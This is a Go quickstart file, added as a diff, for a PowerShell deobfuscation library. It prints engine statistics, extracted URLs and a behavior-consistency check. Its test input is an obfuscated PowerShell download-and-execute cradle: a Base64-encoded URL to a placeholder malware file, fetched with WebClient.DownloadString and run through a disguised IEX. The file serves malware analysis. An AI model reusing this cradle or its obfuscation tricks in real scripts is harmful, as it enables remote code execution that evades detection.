@@ -1,0 +1,50 @@
+// Quickstart: deobfuscate a multi-layer obfuscated PowerShell script
+// with the default engine and inspect what the engine did.
+package main
+
+import (
+	"fmt"
+	"log"
+
+	invokedeob "github.com/invoke-deobfuscation/invokedeob"
+)
+
+// obfuscated is the paper's running example style: string reordering
+// piped to IEX, Base64-encoded URL reassembled through variables, and a
+// download wrapped in L1 randomization.
+const obfuscated = "\"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h' | IeX\n" +
+	"$xdjmd = 'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG'\n" +
+	"$lsffs = '8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA='\n" +
+	"$sdfs = [TeXT.eNcOdINg]::Unicode.GetString([Convert]::FromBase64String($xdjmd + $lsffs))\n" +
+	".($pshome[4]+$pshome[30]+'x') (nEw-oBjEct nET.wEbcLiEnT).DoWNlOaDsTrIng($sdfs)\n"
+
+func main() {
+	fmt.Println("--- obfuscated input ---")
+	fmt.Print(obfuscated)
+
+	res, err := invokedeob.Deobfuscate(obfuscated, nil)
+	if err != nil {
+		log.Fatalf("deobfuscate: %v", err)
+	}
+
+	fmt.Println("\n--- deobfuscated output ---")
+	fmt.Println(res.Script)
+
+	s := res.Stats
+	fmt.Println("--- what the engine did ---")
+	fmt.Printf("tokens normalized:   %d (aliases, random case, ticks)\n", s.TokensNormalized)
+	fmt.Printf("pieces recovered:    %d of %d attempted\n", s.PiecesRecovered, s.PiecesAttempted)
+	fmt.Printf("variables traced:    %d (inlined %d reads)\n", s.VariablesTraced, s.VariablesInlined)
+	fmt.Printf("layers unwrapped:    %d\n", s.LayersUnwrapped)
+	fmt.Printf("identifiers renamed: %d\n", s.IdentifiersRenamed)
+	fmt.Printf("iterations:          %d in %s\n", s.Iterations, s.Duration)
+
+	fmt.Println("\n--- extracted IOCs ---")
+	for _, url := range invokedeob.ExtractIOCs(res.Script).URLs {
+		fmt.Println("url:", url)
+	}
+
+	fmt.Println("\n--- semantics check ---")
+	fmt.Println("network behavior preserved:",
+		invokedeob.BehaviorConsistent(obfuscated, res.Script))
+}
